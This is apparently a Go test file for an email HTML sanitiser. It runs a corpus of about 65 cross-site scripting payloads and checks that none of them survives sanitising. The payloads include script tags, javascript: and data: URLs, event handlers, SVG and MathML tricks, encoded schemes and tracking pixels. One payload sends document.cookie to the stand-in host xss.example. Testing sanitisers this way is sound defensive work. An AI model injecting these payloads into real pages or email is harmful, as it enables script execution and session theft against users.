package workspace_test

import (
	"strings"
	"testing"

	"github.com/agentdesk/agentdesk/workspace"
)

// xssCorpus is inbound HTML that tries to run script or load content (C5): scripts,
// javascript: links, event handlers, CSS expressions, SVG and MathML payloads, frames,
// forms, meta refreshes, encodings that hide a scheme, and remote images.
var xssCorpus = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<img src=JaVaScRiPt:alert(1)>`,
	`<img src="jav&#x09;ascript:alert(1)">`,
	`<img src="jav&#x0A;ascript:alert(1)">`,
	`<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
	`<img """><script>alert(1)</script>">`,
	`<img src=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JAVASCRIPT:alert(1)">click</a>`,
	`<a href=" javascript:alert(1)">click</a>`,
	`<a href="vbscript:msgbox(1)">click</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
	`<a href="&#x6A;avascript:alert(1)">click</a>`,
	`<a href="java&#09;script:alert(1)">x</a>`,
	`<a onmouseover="alert(1)">hover</a>`,
	`<body onload=alert(1)>`,
	`<div onclick="alert(1)">x</div>`,
	`<p onmouseenter=alert(1)>x</p>`,
	`<details open ontoggle=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select onfocus=alert(1) autofocus>`,
	`<textarea onfocus=alert(1) autofocus>`,
	`<marquee onstart=alert(1)>`,
	`<video><source onerror="alert(1)">`,
	`<audio src=x onerror=alert(1)>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<div style="width: expression(alert(1));">x</div>`,
	`<p style="behavior: url(xss.htc)">x</p>`,
	`<style>body{background:url("javascript:alert(1)")}</style>`,
	`<style>@import 'http://xss.example/xss.css';</style>`,
	`<link rel=stylesheet href=http://xss.example/xss.css>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<frameset onload=alert(1)>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<form action="javascript:alert(1)"><input type=submit></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	`<td background="http://tracker.example/bg.png">x</td>`,
	`<img src="https://tracker.example/pixel.gif" width=1 height=1>`,
	`<img srcset="https://tracker.example/a.png 1x">`,
	`<img src="http://tracker.example/p.png" alt="remote">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img src="cid:unknown@x" onerror=alert(1)>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<a href="#" onclick="document.location='http://xss.example/?'+document.cookie">x</a>`,
	`"><script>alert(document.domain)</script>`,
	`<div><a href="https://ok.example/">fine link</a> and <b>bold</b></div>`,
}

// TestEmailXSSCorpusC5: sanitising every payload of the corpus leaves 0 executable constructs
// (counted by workspace.ExecutableConstructs on the output); remote images are kept only in
// data-remote-src for the "show remote images" choice, and harmless markup survives.
func TestEmailXSSCorpusC5(t *testing.T) {
	if len(xssCorpus) < 50 {
		t.Fatalf("the corpus has %d payloads, want at least 50", len(xssCorpus))
	}
	// The counter itself finds what it must: each of these has at least one construct.
	for _, p := range []string{`<script>x</script>`, `<img src=x onerror=y>`, `<a href="javascript:x">`, `<div style="x">`, `<img src="https://t/p.gif">`, `<svg>`} {
		if len(workspace.ExecutableConstructs(p)) == 0 {
			t.Fatalf("the counter misses %s", p)
		}
	}
	survived := 0
	for _, p := range xssCorpus {
		out := workspace.SanitiseEmailHTML(p, nil)
		if found := workspace.ExecutableConstructs(out); len(found) > 0 {
			survived += len(found)
			t.Errorf("%s\n  -> %s\n  keeps %v", p, out, found)
		}
		if strings.Contains(strings.ToLower(out), "javascript:") && strings.Contains(out, "<") && !strings.Contains(out, "&lt;") {
			t.Errorf("%s -> %s keeps a javascript: URL", p, out)
		}
	}
	t.Logf("XSS corpus: %d payloads, %d executable constructs survive", len(xssCorpus), survived)
	remote := workspace.SanitiseEmailHTML(`<p>Hi <img src="https://tracker.example/pixel.gif" alt="logo"></p>`, nil)
	if !strings.Contains(remote, `data-remote-src="https://tracker.example/pixel.gif"`) || strings.Contains(remote, ` src=`) {
		t.Fatalf("remote image: %s", remote)
	}
	fine := workspace.SanitiseEmailHTML(`<div><a href="https://ok.example/">fine link</a> and <b>bold</b><ul><li>one</li></ul></div>`, nil)
	if !strings.Contains(fine, `href="https://ok.example/"`) || !strings.Contains(fine, "<b>bold</b>") || !strings.Contains(fine, "<li>one</li>") || !strings.Contains(fine, `rel="nofollow noreferrer noopener"`) {
		t.Fatalf("harmless markup: %s", fine)
	}
	inline := workspace.SanitiseEmailHTML(`<img src="cid:Logo@X">`, map[string]string{"logo@x": "0196a9d6-0000-7000-8000-000000000001"})
	if !strings.Contains(inline, `src="/attachments/0196a9d6-0000-7000-8000-000000000001"`) {
		t.Fatalf("cid image: %s", inline)
	}
}

// TestEmailHTMLText: the plain-text alternative of HTML keeps lines and list items.
func TestEmailHTMLText(t *testing.T) {
	got := workspace.HTMLText(`<p>Hello <b>Pat</b>,</p><ul><li>one</li><li>two</li></ul><p>Bye<br>Alice</p>`)
	if got != "Hello Pat,\n- one\n- two\nBye\nAlice" {
		t.Fatalf("%q", got)
	}
}
